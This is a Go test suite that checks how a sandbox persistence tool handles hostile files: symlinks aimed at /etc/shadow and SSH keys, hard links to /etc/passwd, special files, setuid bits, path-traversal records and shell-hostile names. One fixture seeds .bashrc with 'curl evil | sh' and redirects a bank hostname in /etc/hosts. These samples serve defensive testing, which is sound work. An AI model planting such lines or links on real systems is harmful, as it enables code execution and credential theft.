package persist

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/spillway/spillway/exceptions"
	"github.com/spillway/spillway/internal/change"
	"github.com/spillway/spillway/internal/progress"
	"github.com/spillway/spillway/snapshot"
	"github.com/spillway/spillway/store"
)

// The adversarial corpus: each case builds a hostile tree in a real
// sandbox with an exception on /home/user/Documents/**, closes, reopens and
// checks the safe outcome; the host canary never reaches the store.

const docs = "home/user/Documents"

// bothSnapshotters runs a corpus case on the overlay and the native
// snapshotter: the safe outcome must not depend on how changes are found.
func bothSnapshotters(t *testing.T, fn func(t *testing.T, kind string)) {
	for _, kind := range []string{snapshot.KindOverlay, snapshot.KindNative} {
		t.Run(kind, func(t *testing.T) { fn(t, kind) })
	}
}

func TestCorpusSymlinksAreRefusedNeverFollowed(t *testing.T) {
	bothSnapshotters(t, corpusSymlinksAreRefusedNeverFollowed)
}

func corpusSymlinksAreRefusedNeverFollowed(t *testing.T, kind string) {
	f := newFixture(t, kind)
	f.except(nil, "/home/user/Documents/**")
	root := f.open()
	links := map[string]string{
		"abs-canary": f.canaryPath,
		"shadow":     "/etc/shadow",
		"climb":      strings.Repeat("../", 12) + strings.TrimPrefix(f.canaryPath, "/"),
		"x":          "../.ssh/id_rsa",
	}
	write(t, root, "home/user/.ssh/id_rsa", "PRIVATE KEY BYTES", 0o600)
	for n, target := range links {
		if err := os.Symlink(target, filepath.Join(root, docs, n)); err != nil {
			t.Fatal(err)
		}
	}
	sum := f.close()
	for n := range links {
		if got := refusal(sum, "/"+docs+"/"+n); got != RefuseSymlink {
			t.Errorf("%s: refusal %q, want symlink", n, got)
		}
	}
	root = f.open()
	for n := range links {
		if _, err := os.Lstat(filepath.Join(root, docs, n)); err == nil {
			t.Errorf("refused link %s is in the next root", n)
		}
	}
	f.assertNoCanary(root)
	assertNotInBlobs(t, f, []byte("PRIVATE KEY BYTES"))
	f.close()

	// With --allow-symlinks the link itself persists, never its target.
	f.except(func(x *exceptions.Exception) { x.AllowSymlinks = true; x.Forced = true }, "/home/user/Links/**")
	root = f.open()
	if err := os.MkdirAll(filepath.Join(root, "home/user/Links"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(f.canaryPath, filepath.Join(root, "home/user/Links/canary")); err != nil {
		t.Fatal(err)
	}
	sum = f.close()
	if !persisted(sum, "/home/user/Links/canary") {
		t.Fatalf("allowed symlink not persisted: %+v", sum)
	}
	root = f.open()
	target, err := os.Readlink(filepath.Join(root, "home/user/Links/canary"))
	if err != nil || target != f.canaryPath {
		t.Fatalf("persisted link: %q %v", target, err)
	}
	f.assertNoCanary()
}

func assertNotInBlobs(t *testing.T, f *fixture, secret []byte) {
	t.Helper()
	saved := f.canary
	f.canary = secret
	f.assertNoCanary()
	f.canary = saved
}

func TestCorpusHardLinksAndSpecialFiles(t *testing.T) {
	bothSnapshotters(t, corpusHardLinksAndSpecialFiles)
}

// A hard link to a file outside any exception persists only its
// Documents name, as a file of its own; special files are refused.
func corpusHardLinksAndSpecialFiles(t *testing.T, kind string) {
	f := newFixture(t, kind)
	f.except(nil, "/home/user/Documents/**")
	root := f.open()
	write(t, root, "home/user/secret.txt", "secret outside Documents", 0o600)
	if err := os.Link(filepath.Join(root, "home/user/secret.txt"), filepath.Join(root, docs, "hard")); err != nil {
		t.Fatal(err)
	}
	write(t, root, "tmp/scratch", "scratch in /tmp", 0o644)
	if err := os.Link(filepath.Join(root, "tmp/scratch"), filepath.Join(root, docs, "scratch")); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(filepath.Join(root, "etc/passwd"), filepath.Join(root, docs, "passwd")); err != nil {
		t.Fatal(err)
	}
	passwd, err := os.ReadFile(filepath.Join(root, "etc/passwd"))
	if err != nil {
		t.Fatal(err)
	}
	if err := unix.Mkfifo(filepath.Join(root, docs, "report.pdf"), 0o644); err != nil {
		t.Fatal(err)
	}
	sock, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		t.Fatal(err)
	}
	if err := unix.Bind(sock, &unix.SockaddrUnix{Name: filepath.Join(root, docs, "sock")}); err != nil {
		t.Fatal(err)
	}
	unix.Close(sock) // the socket file stays; nothing keeps the root busy
	if err := unix.Mknod(filepath.Join(root, docs, "tty"), unix.S_IFCHR|0o666, int(unix.Mkdev(5, 0))); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	sum := f.close()
	if d := time.Since(start); d > 10*time.Second {
		t.Fatalf("close took %v with a FIFO present", d)
	}
	want := map[string]string{"report.pdf": RefuseSpecial, "sock": RefuseSpecial, "tty": RefuseSpecial}
	for n, code := range want {
		if got := refusal(sum, "/"+docs+"/"+n); got != code {
			t.Errorf("%s: refusal %q, want %q", n, got, code)
		}
	}
	for _, n := range []string{"hard", "scratch", "passwd"} {
		if !persisted(sum, "/"+docs+"/"+n) {
			t.Errorf("%s: hard link not persisted: %+v", n, sum)
		}
	}
	for _, p := range []string{"/home/user/secret.txt", "/tmp/scratch", "/etc/passwd"} {
		if persisted(sum, p) || refusal(sum, p) != "" {
			t.Errorf("%s outside the exception reached the summary", p)
		}
	}
	root = f.open()
	for n, c := range map[string]string{"hard": "secret outside Documents", "scratch": "scratch in /tmp", "passwd": string(passwd)} {
		assertOwnFile(t, root, docs+"/"+n, c)
	}
	for _, p := range []string{"home/user/secret.txt", "tmp/scratch"} {
		if _, err := os.Lstat(filepath.Join(root, p)); err == nil {
			t.Errorf("%s outside the exception survived the close", p)
		}
	}
	if b, err := os.ReadFile(filepath.Join(root, "etc/passwd")); err != nil || string(b) != string(passwd) {
		t.Errorf("image /etc/passwd after reopen: %q %v", b, err)
	}
}

func TestCorpusModeBitsAreDropped(t *testing.T) { bothSnapshotters(t, corpusModeBitsAreDropped) }

func corpusModeBitsAreDropped(t *testing.T, kind string) {
	f := newFixture(t, kind)
	f.except(nil, "/home/user/Documents/**")
	f.except(func(x *exceptions.Exception) { x.AllowExec = true; x.Forced = true }, "/home/user/bin-ok/**")
	root := f.open()
	write(t, root, docs+"/suid", "x", 0o4755)
	if err := os.Mkdir(filepath.Join(root, docs, "sgid"), 0o2775); err != nil {
		t.Fatal(err)
	}
	os.Chmod(filepath.Join(root, docs, "sgid"), 0o2775)
	write(t, root, docs+"/script.sh", "#!/bin/sh\necho hi\n", 0o755)
	write(t, root, "home/user/bin-ok/tool.sh", "#!/bin/sh\n", 0o755)
	f.close()
	root = f.open()
	for p, want := range map[string]os.FileMode{
		docs + "/suid":             0o644,
		docs + "/sgid":             os.ModeDir | 0o775,
		docs + "/script.sh":        0o644,
		"home/user/bin-ok/tool.sh": 0o755,
	} {
		fi, err := os.Lstat(filepath.Join(root, p))
		if err != nil {
			t.Errorf("%s: %v", p, err)
			continue
		}
		if got := fi.Mode() & (os.ModeDir | os.ModePerm | os.ModeSetuid | os.ModeSetgid | os.ModeSticky); got != want {
			t.Errorf("%s: mode %v, want %v", p, got, want)
		}
	}
}

func TestCorpusHugeSparseFileRefusedUnread(t *testing.T) {
	bothSnapshotters(t, corpusHugeSparseFileRefusedUnread)
}

func corpusHugeSparseFileRefusedUnread(t *testing.T, kind string) {
	f := newFixture(t, kind)
	f.except(nil, "/home/user/Documents/**")
	root := f.open()
	fh, err := os.Create(filepath.Join(root, docs, "huge.iso"))
	if err != nil {
		t.Fatal(err)
	}
	if err := fh.Truncate(100 << 30); err != nil {
		t.Fatal(err)
	}
	fh.Close()
	start := time.Now()
	sum := f.close()
	if d := time.Since(start); d > 10*time.Second {
		t.Fatalf("close took %v", d)
	}
	if got := refusal(sum, "/"+docs+"/huge.iso"); got != RefuseTooLarge {
		t.Fatalf("refusal %q, want too-large", got)
	}
}

func TestCorpusQuotaFiles(t *testing.T) { bothSnapshotters(t, corpusQuotaFiles) }

func corpusQuotaFiles(t *testing.T, kind string) {
	if testing.Short() {
		t.Skip("12,000 files: skipped with -short (the full suite runs it)")
	}
	f := newFixture(t, kind)
	f.except(nil, "/home/user/Documents/**")
	root := f.open()
	for i := range 12000 {
		p := filepath.Join(root, docs, fmt.Sprintf("d%02d/f%05d.txt", i%20, i))
		if i < 20 {
			os.MkdirAll(filepath.Dir(p), 0o755)
		}
		if err := os.WriteFile(p, []byte(fmt.Sprint(i)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// A close interrupted after it staged more records than one badger
	// transaction can delete is finished by the next close.
	ctx, cancel := context.WithCancel(f.ctx)
	f.e.progress = cancelAt{n: 11500, cancel: cancel}
	_, err := f.e.CloseSandbox(ctx, "docs", CloseOptions{})
	f.e.progress = progress.None
	if err == nil {
		t.Fatal("cancelled close succeeded")
	}
	sum := f.close()
	var files, quota int
	for _, p := range sum.Persisted {
		if p.Type == "file" {
			files++
		}
	}
	// The summary holds a sample; the manifest has every refusal.
	if err := sum.EachRefused(func(r Refusal) error {
		if r.Reason == RefuseQuotaF {
			quota++
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if len(sum.Refused) != RefusalSample || sum.RefusedCount != 2000 || len(sum.Refusals) != 1 || sum.Refusals[0].Count != 2000 {
		t.Fatalf("refusal summary: %d sampled, %d counted, groups %+v", len(sum.Refused), sum.RefusedCount, len(sum.Refusals))
	}
	if files != 10000 || quota != 2000 {
		t.Fatalf("persisted %d files and refused %d for quota-files, want 10000 and 2000", files, quota)
	}
	root = f.open()
	n := 0
	filepath.Walk(filepath.Join(root, docs), func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() && strings.HasPrefix(fi.Name(), "f") {
			n++
		}
		return nil
	})
	if n != 10000 {
		t.Fatalf("next root has %d of the documents, want 10000", n)
	}
	f.close()
	// rm deletes 12,000 records, more than one transaction holds.
	if err := f.e.RemoveSandbox(f.ctx, "docs", false, nil); err != nil {
		t.Fatal(err)
	}
	if f.e.hasRecords("docs") {
		t.Fatal("records of the removed sandbox are left")
	}
}

func TestCorpusHostileNames(t *testing.T) { bothSnapshotters(t, corpusHostileNames) }

func corpusHostileNames(t *testing.T, kind string) {
	f := newFixture(t, kind)
	f.except(nil, "/home/user/Documents/**")
	root := f.open()
	names := []string{"new\nline", "esc\x1b[31mred", strings.Repeat("n", 255), "-rf", "--help", "bad\xff\xfeutf8"}
	for i, n := range names {
		write(t, root, docs+"/"+n, fmt.Sprint("content ", i), 0o644)
	}
	sum := f.close()
	for _, n := range names {
		if !persisted(sum, "/"+docs+"/"+n) {
			t.Errorf("%q not persisted", n)
		}
	}
	root = f.open()
	for i, n := range names {
		b, err := os.ReadFile(filepath.Join(root, docs, n))
		if err != nil || string(b) != fmt.Sprint("content ", i) {
			t.Errorf("%q in next root: %q %v", n, b, err)
		}
	}
}

func TestCorpusDeletedDocumentHistory(t *testing.T) {
	bothSnapshotters(t, corpusDeletedDocumentHistory)
}

func corpusDeletedDocumentHistory(t *testing.T, kind string) {
	f := newFixture(t, kind)
	f.except(nil, "/home/user/Documents/**")
	root := f.open()
	write(t, root, docs+"/letter.txt", "dear", 0o644)
	f.close()
	root = f.open()
	if err := os.Remove(filepath.Join(root, docs, "letter.txt")); err != nil {
		t.Fatal(err)
	}
	f.close()
	root = f.open()
	if _, err := os.Lstat(filepath.Join(root, docs, "letter.txt")); err == nil {
		t.Fatal("deleted document is back in session 3")
	}
	hist, err := f.e.History(context.Background(), "docs", "/"+docs+"/letter.txt")
	if err != nil {
		t.Fatal(err)
	}
	if len(hist) != 2 || hist[0].Kind != change.KindAdd || hist[1].Kind != change.KindDelete || hist[0].Session != 1 || hist[1].Session != 2 {
		t.Fatalf("history: %+v", hist)
	}
}

func TestCorpusExpiredRevokedAndPurge(t *testing.T) {
	bothSnapshotters(t, corpusExpiredRevokedAndPurge)
}

func corpusExpiredRevokedAndPurge(t *testing.T, kind string) {
	f := newFixture(t, kind)
	expiring := f.except(func(x *exceptions.Exception) { x.Expires = time.Now().Add(time.Hour) }, "/home/user/Documents/old/**")
	revoked := f.except(nil, "/home/user/Documents/gone/**")
	purged := f.except(nil, "/home/user/Documents/purge/**")
	root := f.open()
	write(t, root, docs+"/purge/p.txt", "to be purged", 0o644)
	f.close()
	if _, err := f.e.RevokeException(context.Background(), revoked, "no longer needed", false); err != nil {
		t.Fatal(err)
	}
	f.e.clock = func() time.Time { return time.Now().Add(2 * time.Hour).UTC() }
	root = f.open()
	write(t, root, docs+"/old/o.txt", "expired rule", 0o644)
	write(t, root, docs+"/gone/g.txt", "revoked rule", 0o644)
	sum := f.close()
	if len(sum.Persisted) != 0 {
		t.Fatalf("expired %s or revoked %s persisted: %+v", expiring, revoked, sum.Persisted)
	}
	root = f.open()
	if _, err := os.Stat(filepath.Join(root, docs, "purge/p.txt")); err != nil {
		t.Fatalf("document before purge: %v", err)
	}
	f.close()
	if n, err := f.e.RevokeException(context.Background(), purged, "leaked", true); err != nil || n == 0 {
		t.Fatalf("purge: %d %v", n, err)
	}
	root = f.open()
	for _, p := range []string{"old/o.txt", "gone/g.txt", "purge/p.txt"} {
		if _, err := os.Lstat(filepath.Join(root, docs, p)); err == nil {
			t.Errorf("%s is in the next root", p)
		}
	}
}

func TestCorpusDiscardedNextToDocuments(t *testing.T) {
	bothSnapshotters(t, corpusDiscardedNextToDocuments)
}

func corpusDiscardedNextToDocuments(t *testing.T, kind string) {
	f := newFixture(t, kind)
	f.except(nil, "/home/user/Documents/**")
	root := f.open()
	write(t, root, docs+"/keep.txt", "keep", 0o644)
	write(t, root, "home/user/.bashrc", "curl evil | sh\n", 0o644)
	write(t, root, "etc/hosts", "6.6.6.6 bank\n", 0o644)
	write(t, root, "tmp/x", "tmp", 0o644)
	sum := f.close()
	if sum.Discarded.Count != 3 {
		t.Fatalf("discarded %d, want 3: %+v", sum.Discarded.Count, sum.Discarded)
	}
	root = f.open()
	for p, want := range map[string]string{"home/user/.bashrc": "# user shell start-up\n", "etc/hosts": "127.0.0.1 localhost\n", docs + "/keep.txt": "keep"} {
		if b, _ := os.ReadFile(filepath.Join(root, p)); string(b) != want {
			t.Errorf("%s = %q, want %q", p, b, want)
		}
	}
	if _, err := os.Lstat(filepath.Join(root, "tmp/x")); err == nil {
		t.Error("/tmp/x survived close")
	}
}

func TestCorpusSameContentOneBlob(t *testing.T) { bothSnapshotters(t, corpusSameContentOneBlob) }

func corpusSameContentOneBlob(t *testing.T, kind string) {
	f := newFixture(t, kind)
	f.except(nil, "/home/user/Documents/**")
	root := f.open()
	write(t, root, docs+"/a.txt", "same content", 0o644)
	write(t, root, docs+"/b.txt", "same content", 0o644)
	f.close()
	for range 3 {
		root = f.open()
		write(t, root, docs+"/a.txt", "same content", 0o644)
		f.close()
	}
	blobs, err := f.e.blobs.List()
	if err != nil {
		t.Fatal(err)
	}
	if len(blobs) != 1 {
		t.Fatalf("%d blobs, want 1", len(blobs))
	}
}

func TestCorpusUncleanStoredPathIsNotApplied(t *testing.T) {
	bothSnapshotters(t, corpusUncleanStoredPathIsNotApplied)
}

func corpusUncleanStoredPathIsNotApplied(t *testing.T, kind string) {
	f := newFixture(t, kind)
	x := f.except(nil, "/home/user/Documents/**")
	root := f.open()
	write(t, root, docs+"/good.txt", "good", 0o644)
	sum := f.close()
	digest := sum.Persisted[0].Digest
	err := f.e.store.Update(func(tx *store.Tx) error {
		for _, p := range []string{"/home/user/../../../etc/evil", "relative/path", "/home//user/x"} {
			id, err := tx.NextRecordID()
			if err != nil {
				return err
			}
			r := &store.Record{ID: id, Sandbox: "docs", Session: 1, Path: p, Kind: change.KindAdd, Type: "file",
				Size: 4, Mode: 0o644, Digest: digest, Exception: x, Status: change.StatusApproved}
			if err := tx.PutRecord(r); err != nil {
				return err
			}
		}
		sb, err := tx.GetSandbox("docs")
		if err != nil {
			return err
		}
		sb.Generation++
		return tx.PutSandbox(sb)
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.e.rebuildCurrent(f.ctx, "docs"); err != nil {
		t.Fatal(err)
	}
	o, err := f.e.OpenSandbox(f.ctx, "docs")
	if err != nil {
		t.Fatal(err)
	}
	if len(o.Skipped) != 3 {
		t.Fatalf("skipped %q, want the 3 unclean paths", o.Skipped)
	}
	if b, err := os.ReadFile(filepath.Join(o.Path, docs, "good.txt")); err != nil || string(b) != "good" {
		t.Fatalf("good.txt: %q %v", b, err)
	}
	if _, err := os.Lstat(filepath.Join(o.Path, "etc/evil")); err == nil {
		t.Fatal("unclean path was applied")
	}
}

// cancelAt is a progress.Progress that cancels once n items are done.
type cancelAt struct {
	n      int64
	cancel func()
}

func (c cancelAt) Update(s progress.Status) {
	if s.Items >= c.n {
		c.cancel()
	}
}
func (c cancelAt) Done() {}
